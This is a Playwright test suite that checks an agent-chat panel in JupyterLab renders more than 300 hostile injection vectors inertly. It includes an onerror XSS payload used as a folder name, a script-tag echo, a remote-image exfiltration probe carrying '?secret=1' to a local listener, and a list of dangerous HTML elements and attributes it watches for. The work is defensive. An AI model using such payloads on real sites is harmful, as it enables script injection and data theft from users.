"""Hostile words in every field that reaches the page: inert, and no request leaves."""

from __future__ import annotations

import json
import re
import sys
import threading
import unicodedata
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import Dialog, Page, Request, expect

from tests.kernel.jupyter_process import FAKE_AGENT
from tests.stories.lab import Json, Lab, running_lab, scripted_model, until, with_model
from tests.stories.panel import Panel, open_lab, open_split, settle

pytestmark = [pytest.mark.story, pytest.mark.timeout(300)]

# By kind; {origin} and {host} are where the listener is. The kinds are those that DOMPurify, OWASP
# and the writers on terminal escapes and on trojan source have published.
CORPUS: dict[str, list[str]] = json.loads(Path(__file__).with_name("hostile.json").read_text())
FOLDER = "<img src=x onerror=window.__pwned=1>"
EVERYTHING = "say it all"
ENDING = "That was all of it."
PATIENCE_MS = 120_000  # until hundreds of steps are done
PIXEL = bytes.fromhex(
    "47494638396101000100800000ffffff00000021f90401000000002c00000000010001000002024401003b"
)

# What our own elements are made of; a hostile word that became an element shows here.
FINDINGS = r"""root => {
  const found = [];
  const never = 'script,iframe,frame,frameset,object,embed,applet,portal,meta,base,link,style,' +
    'template,math,use,image,feimage,foreignobject,animate,set,video,audio,source,picture,' +
    'area,isindex,keygen,marquee,noscript,xmp,plaintext';
  for (const node of root.querySelectorAll('*')) {
    const show = why => found.push(`${why}: ${node.outerHTML.slice(0, 200)}`);
    // A formula is made of elements of its own.
    const formula = node.closest('.al-math');
    if (!formula && node.matches(never)) show('element');
    if (formula && formula !== node && !/MathML$/.test(node.namespaceURI)) show('formula');
    for (const { name, value } of node.attributes) {
      if (/^on/i.test(name)) show('handler');
      const styles = formula ? /url|expression|image|fixed/i : /url|expression|position|content/i;
      if (name === 'style' && styles.test(value)) show('style');
      if (name === 'href' && !/^(?:https?:|mailto:)/.test(value)) show('link');
      if (name === 'src' && !/^data:image\/(?:png|gif|jpeg|webp);base64,/.test(value)) {
        show('source');
      }
      if (/^(?:srcset|action|formaction|ping|poster|background|data|xlink:href)$/i.test(name)) {
        show('address');
      }
    }
  }
  return found;
}"""
# The answer to a request of our own comes after whatever was asked for before it.
FENCE = """() => new Promise(done => {
  const image = new Image();
  image.onerror = () => requestAnimationFrame(() => requestAnimationFrame(done));
  image.src = `${location.origin}/no-such-picture?${Math.random()}`;
})"""
# What an agent says, without the code in it: there hidden characters are shown instead.
WORDS = """parts => parts.map(part => {
  const words = part.cloneNode(true);
  for (const code of words.querySelectorAll('pre, code')) code.remove();
  return words.textContent;
})"""
CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
# Each vector as a page of its own within the page.
BITE = """vectors => {
  for (const vector of vectors) {
    const frame = document.createElement('iframe');
    frame.srcdoc = vector;
    document.body.append(frame);
  }
}"""
BITTEN = """() => [...document.querySelectorAll('iframe')].filter(frame => {
  try {
    return frame.contentWindow.__pwned === 1;
  } catch {
    return true;  // it is a page of somebody else now
  }
}).length"""


@dataclass
class Listener:
    """Somebody else's server; it hears what a page should not have told."""

    host: str
    heard: list[tuple[str, str | None]] = field(default_factory=list)  # path, referrer

    @property
    def origin(self) -> str:
        return f"http://{self.host}"

    def vectors(self) -> list[str]:
        return [self.aimed(text) for texts in CORPUS.values() for text in texts]

    def aimed(self, text: str) -> str:
        return text.replace("{origin}", self.origin).replace("{host}", self.host)


@contextmanager
def listening() -> Iterator[Listener]:
    class Heard(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.heard.append((self.path, self.headers["Referer"]))
            self.send_response(200)
            self.send_header("Content-Type", "image/gif")
            self.send_header("Content-Length", str(len(PIXEL)))
            self.end_headers()
            self.wfile.write(PIXEL)

        do_POST = do_GET  # noqa: N815 - the names are the library's

        def log_message(self, format: str, *args: object) -> None:
            """Nothing: the test looks for itself."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Heard) as server:
        server.daemon_threads = True
        heard = Listener(f"127.0.0.1:{server.server_port}")
        thread = threading.Thread(target=server.serve_forever, args=(0.05,))
        thread.start()
        try:
            yield heard
        finally:
            server.shutdown()
            thread.join()


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    with listening() as listener:
        yield listener


@pytest.fixture(scope="module")
def vectors(listener: Listener) -> list[str]:
    found = listener.vectors()
    assert len(found) >= 300
    return found


class Watch:
    """What a page did that no person asked it for."""

    def __init__(self, page: Page, lab: Lab, listener: Listener) -> None:
        self._page, self._lab, self._listener = page, lab, listener
        self._done: list[str] = []
        listener.heard.clear()
        page.on("dialog", self._dialog)
        page.on("download", lambda download: self._done.append(f"download {download.url}"))
        page.on("popup", lambda popup: self._done.append(f"popup {popup.url}"))
        page.context.on("request", self._request)

    def _dialog(self, dialog: Dialog) -> None:
        self._done.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def _request(self, request: Request) -> None:
        if not request.url.startswith((self._lab.url, "data:", "blob:")):
            self._done.append(f"request {request.url}")

    def quiet(self) -> None:
        """Nothing was run, loaded, opened or left; nothing is there that could."""
        self._page.evaluate(FENCE)
        assert self._done == []
        assert self._listener.heard == []
        assert self._page.url.startswith(self._lab.url)
        for frame in self._page.frames:
            assert frame.evaluate("() => window.__pwned ?? null") is None
        for region in self._page.get_by_role("region", name="Agent chat").all():
            assert region.evaluate(FINDINGS) == []


def shown(text: str) -> str:
    """How characters that nobody can see are shown where words count."""
    return "".join(
        f"U+{ord(character):04X}"
        if character not in "\t\n" and unicodedata.category(character) in ("Cc", "Cf", "Zl", "Zp")
        else character
        for character in text
    )


def file_name(number: int, vector: str) -> str:
    # With a backslash in it claude takes it for a path of Windows, and asks.
    bare = vector.replace("/", "\u2044").replace("\\", "\u29f5").replace("\0", "")
    return f"{number:03} {bare}".encode()[:200].decode(errors="ignore")


def toml(value: Json) -> str:
    """A value as TOML; its strings and JSON's agree but for one character."""
    if isinstance(value, dict):
        pairs = ",".join(f"{json.dumps(key)}={toml(each)}" for key, each in value.items())
        return f"{{{pairs}}}"
    if isinstance(value, list):
        return f"[{','.join(map(toml, value))}]"
    return json.dumps(value, ensure_ascii=False).replace("\x7f", "\\u007f")


def scene(match: str, *steps: Json) -> str:
    lines = ["[[scene]]", f"match = {toml(match)}"]
    for step in steps:
        lines.append("[[scene.step]]")
        lines.extend(f"{name} = {toml(value)}" for name, value in step.items())
    return "\n".join(lines)


def uses(name: str, given: Json) -> Json:
    """A step that calls one tool."""
    return {"tool": [{"name": name, "input": given}]}


def runnable(vectors: list[str]) -> str:
    """What claude asks about as it is: it refuses control characters and resolves escapes."""
    return "\n\n".join(
        vector for vector in vectors if shown(vector) == vector and "\\u" not in vector
    )


def script(vectors: list[str], place: Path) -> str:
    everything = "\n\n".join(vectors)
    steps = [
        {
            "thinking": vector,
            "text": vector,
            **uses("Read", {"file_path": str(place / file_name(number, vector))}),
        }
        for number, vector in enumerate(vectors)
    ]
    question = {
        "question": everything,
        "header": "x",
        "multiSelect": False,
        "options": [
            {"label": everything, "description": everything},
            {"label": "Other", "description": everything},
        ],
    }
    end = {"text": ENDING, "on_error": ENDING}
    # A command with control characters claude refuses by itself, and escapes it resolves.
    told = "\n\n".join(
        vector for vector in vectors if shown(vector) == vector and "\\u" not in vector
    )
    command = {"command": f": '{told}'", "description": everything}
    plan = {"file_path": "${plan_file}", "content": everything}
    return "\n\n".join(
        (
            scene(f"^{EVERYTHING}$", *steps, end),
            scene("^run it$", uses("Bash", command), end),
            scene("^ask it$", uses("AskUserQuestion", {"questions": [question]}), end),
            scene("^plan it$", uses("Write", plan), uses("ExitPlanMode", {}), end),
            scene("(?s)^echo: (.+)$", {"text": "${1}"}),
            scene("", {"text": "Answer to: ${prompt}"}),
        )
    )


@pytest.fixture(scope="module")
def hostile_lab(tmp_path_factory: pytest.TempPathFactory, vectors: list[str]) -> Iterator[Lab]:
    """The real claude, with a model and a folder that mean harm."""
    folder = tmp_path_factory.mktemp("hostile")
    place = folder / "root" / FOLDER
    place.mkdir(parents=True)
    for number, vector in enumerate(vectors):
        (place / file_name(number, vector)).write_text(vector, "utf-8", newline="")
    file = folder / "hostile.toml"
    file.write_text(script(vectors, place), "utf-8")
    with (
        scripted_model(folder, file) as url,
        running_lab(folder, with_model(folder, url)) as lab,
    ):
        yield lab


@pytest.fixture(scope="module")
def fake_lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
    """An agent that alters nothing: what it is told comes back as it was."""
    folder = tmp_path_factory.mktemp("fake")
    home = folder / "claude" / "projects" / "fake"
    home.mkdir(parents=True)
    environment = {"CLAUDE_CONFIG_DIR": str(folder / "claude"), "FAKE_AGENT_HOME": str(home)}
    command = [sys.executable, str(FAKE_AGENT)]
    with running_lab(folder, environment, claude_command=command) as lab:
        yield lab


def open_in(page: Page, folder: str) -> Panel:
    page.evaluate("cwd => window.jupyterapp.commands.execute('agent-lab:open', {cwd}) && 0", folder)
    panel = Panel(page.locator(".al-Split"))
    expect(panel.box).to_be_visible()
    return panel


def unfold(panel: Panel) -> None:
    """Open all that is closed of what is drawn: what is not drawn cannot do harm yet."""
    closed = panel.log.locator("button[aria-expanded=false]")
    while closed.count():
        closed.evaluate_all("buttons => buttons.forEach(button => button.click())")
        panel.region.page.evaluate("() => new Promise(requestAnimationFrame)")


@dataclass
class Seen:
    """What stood in a conversation that is too long to be drawn at once, in its order."""

    thoughts: int = 0
    cards: int = 0
    outputs: list[str] = field(default_factory=list)
    code: list[str] = field(default_factory=list)
    words: list[str] = field(default_factory=list)
    prompts: list[str] = field(default_factory=list)
    sent: int = 0
    formulas: int = 0


def read_through(panel: Panel, watch: Watch) -> Seen:
    """Look at all of it, part by part, everything opened; nothing of it does any harm."""
    seen = Seen()
    keys = panel.log.locator("[data-chunk]").evaluate_all("all => all.map(n => n.dataset.chunk)")
    for key in keys:
        part = panel.log.locator(f'[data-chunk="{key}"]')
        part.evaluate("node => node.dispatchEvent(new Event('beforematch', { bubbles: true }))")
        expect(part).not_to_have_class(re.compile("al-far"))
        part.evaluate("node => node.scrollIntoView({ block: 'start' })")
        unfold(panel)
        seen.thoughts += part.get_by_role("group", name="Thinking").count()
        seen.cards += part.get_by_role("group", name=re.compile("^Tool call: ")).count()
        seen.outputs += part.locator(".al-output").all_text_contents()
        seen.code += part.locator("pre, code, .al-target, .al-name").all_text_contents()
        seen.words += part.locator(".al-say").evaluate_all(WORDS)
        seen.prompts += part.locator(".al-prompt > p").all_text_contents()
        seen.sent += part.locator(".al-sent-all").count()
        seen.formulas += part.locator(".al-math math").count()
        watch.quiet()
    return seen


def test_the_corpus_bites_where_nothing_is_done_about_it(
    page: Page, listener: Listener, vectors: list[str]
) -> None:
    """Else the silence of the others would prove nothing."""
    listener.heard.clear()
    page.on("dialog", lambda dialog: dialog.dismiss())
    page.evaluate(BITE, vectors)
    until(lambda: page.evaluate(BITTEN) > 40 and len(listener.heard) > 30)


def test_thoughts_words_tools_and_files(
    hostile_lab: Lab, page: Page, listener: Listener, vectors: list[str]
) -> None:
    watch = Watch(page, hostile_lab, listener)
    open_lab(page, hostile_lab, "hostile")
    page.evaluate("() => navigator.clipboard.writeText('mine')")
    panel = open_in(page, FOLDER)
    panel.ask(EVERYTHING)
    expect(panel.log.get_by_text(ENDING, exact=True)).to_have_count(1, timeout=PATIENCE_MS)
    panel.status("Idle")
    seen = read_through(panel, watch)
    assert seen.thoughts == len(vectors)
    assert seen.cards == len(vectors)
    assert seen.formulas > 10, "else those in the formulas were never drawn"
    outputs = "\n".join(seen.outputs)
    for kind in ("script", "image", "nesting", "markdown", "table", "fence"):
        for text in CORPUS[kind]:
            assert shown(listener.aimed(text)).split("\n")[0] in outputs
    assert "]52;" not in outputs
    assert [text for text in seen.code if shown(text) != text] == []
    assert len(seen.words) > len(vectors)
    assert [text for text in seen.words if CONTROL.search(text)] == []
    assert [text for text in seen.words if "]52;" in text] == []
    assert page.evaluate("() => navigator.clipboard.readText()") == "mine"

    page.reload()
    settle(page)
    panel.says(ENDING)
    assert read_through(panel, watch).cards == len(vectors)


def test_what_a_person_is_asked(
    hostile_lab: Lab, page: Page, listener: Listener, vectors: list[str]
) -> None:
    watch = Watch(page, hostile_lab, listener)
    open_lab(page, hostile_lab, "asked")
    panel = open_in(page, FOLDER)
    panel.ask("run it")
    command = panel.log.locator(".al-ask .al-command pre")
    expect(command).to_be_visible()
    assert command.text_content() == f": '{runnable(vectors)}'"
    watch.quiet()
    panel.choose("Reject")
    panel.says(ENDING)

    panel.ask("ask it")
    expect(panel.log.get_by_role("radio").first).to_be_visible()
    watch.quiet()
    panel.log.get_by_role("radio").first.check()
    panel.button("Send answer").click()
    panel.says(ENDING, 2)

    session = hostile_lab.sessions()[0]["id"]
    hostile_lab.call("PATCH", f"agent-lab/api/sessions/{session}", {"permission_mode": "plan"})
    panel.ask("plan it")
    expect(panel.log.locator(".al-ask .al-say").first).to_be_visible()
    watch.quiet()
    panel.button("Stop").click()
    panel.status("Idle")
    unfold(panel)
    watch.quiet()


def test_prompts_queue_titles_and_context(
    fake_lab: Lab, page: Page, listener: Listener, vectors: list[str]
) -> None:
    watch = Watch(page, fake_lab, listener)
    open_lab(page, fake_lab, "told")
    panel = open_split(page)
    panel.ask("!permission")
    expect(panel.button("Allow once")).to_be_visible()
    session = f"agent-lab/api/sessions/{fake_lab.sessions()[0]['id']}"
    for vector in vectors:
        context = {"type": "file", "label": vector, "path": vector, "text": vector}
        error = {"type": "error", "label": vector, "traceback": vector, "source": vector}
        fake_lab.call(
            "POST",
            f"{session}/prompt",
            {"content": [{"type": "text", "text": vector}], "context": [context, error]},
        )
    expect(panel.queue.get_by_role("listitem")).to_have_count(len(vectors))
    watch.quiet()

    panel.choose("Allow once")
    expect(panel.queue).to_be_hidden()
    panel.status("Idle")
    seen = read_through(panel, watch)
    assert seen.prompts[1:] == [shown(vector) for vector in vectors]
    assert seen.sent == len(vectors) + 1  # each message says it, also the plain one

    for fault in ("surrogates", "ansi"):
        panel.ask(f"!{fault}")
    panel.status("Idle")
    for vector in vectors:
        title = " ".join(vector.split())[:200]
        fake_lab.call("PATCH", session, {"title": title})
        page.wait_for_function(
            "title => document.querySelector('.al-title')?.textContent === title", arg=shown(title)
        )
    watch.quiet()
    panel.a_b_c()


def test_words_in_angle_brackets_stay_words(
    hostile_lab: Lab, page: Page, listener: Listener
) -> None:
    watch = Watch(page, hostile_lab, listener)
    open_lab(page, hostile_lab, "words")
    panel = open_split(page)
    panel.ask("echo: A Vec<T> or List<String> with <your-key>, <b>bold</b>, <script>x</script>.")
    panel.says("A Vec<T> or List<String> with <your-key>, bold, <script>x</script>.")
    watch.quiet()


def test_a_remote_image_waits_for_a_person(
    hostile_lab: Lab, page: Page, listener: Listener
) -> None:
    watch = Watch(page, hostile_lab, listener)
    open_lab(page, hostile_lab, "image")
    panel = open_split(page)
    panel.ask(f"echo: ![plot]({listener.origin}/plot.png?secret=1) is a plot")
    blocked = panel.log.get_by_text(f"Remote image blocked: {listener.host}")
    expect(blocked).to_be_visible()
    panel.status("Idle")
    watch.quiet()
    page.reload()
    settle(page)
    expect(blocked).to_be_visible()
    watch.quiet()

    panel.button("Load").click()
    picture = panel.log.get_by_role("img", name="plot")
    expect(picture).to_be_visible()
    page.wait_for_function("() => document.querySelector('.al-picture')?.naturalWidth === 1")
    assert listener.heard == [("/plot.png?secret=1", None)]
